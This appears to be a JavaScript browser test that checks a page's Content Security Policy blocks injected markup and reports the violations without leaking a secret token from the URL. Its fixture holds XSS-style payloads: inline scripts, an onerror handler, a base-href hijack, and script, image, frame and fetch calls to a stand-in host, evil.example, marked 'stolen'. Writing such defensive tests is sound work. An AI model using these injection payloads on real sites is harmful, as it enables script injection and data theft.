// What the policy of a page keeps a browser from is blocked, and reported to the operators.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { device, open, origin } from "./world.mjs";

let browser;
before(async () => (browser = await open()));
after(() => browser?.close());

// As if a page had put somebody's text into its markup without escaping it.
const injected = `
  <script>window.ran = "a script"</script>
  <script src="https://evil.example/script.js?stolen"></script>
  <img src="https://evil.example/pixel?stolen" onerror="window.ran = 'an attribute'">
  <iframe src="https://evil.example/frame"></iframe>
  <base href="https://evil.example/">`;

test("injected markup does not run, and is reported without what was in the address", async () => {
  const page = await device(browser);
  await page.route("**/sign-in?*", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<h1>", `${injected}<h1>`);
    await route.fulfill({ response, body });
  });
  await page.goto("/sign-in?token=a-secret-in-the-address");
  await page.evaluate(() => fetch("https://evil.example/fetch").catch(() => {}));
  assert.equal(await page.evaluate(() => window.ran), undefined);
  assert.equal(await page.evaluate(() => document.forms[0].action), `${origin}/sign-in`);

  const expected = [
    ["script-src-elem", "inline"],
    ["script-src-elem", "https://evil.example/script.js"],
    ["script-src-attr", "inline"],
    ["img-src", "https://evil.example/pixel"],
    ["frame-src", "https://evil.example"],
    ["base-uri", "https://evil.example"],
    ["connect-src", "https://evil.example/fetch"],
  ];
  const operator = await device(browser);
  let shown = "";
  for (let attempt = 0; attempt < 80; attempt += 1) {
    await operator.goto("/development/reports");
    shown = await operator.locator("main").innerText();
    if (expected.every(([part, what]) => shown.includes(part) && shown.includes(what))) break;
    await operator.waitForTimeout(100);
  }
  for (const [part, what] of expected) {
    assert.ok(shown.includes(part) && shown.includes(what), `${part} ${what}:\n${shown}`);
  }
  assert.ok(shown.includes("/sign-in") && !shown.includes("secret") && !shown.includes("stolen"), shown);
});
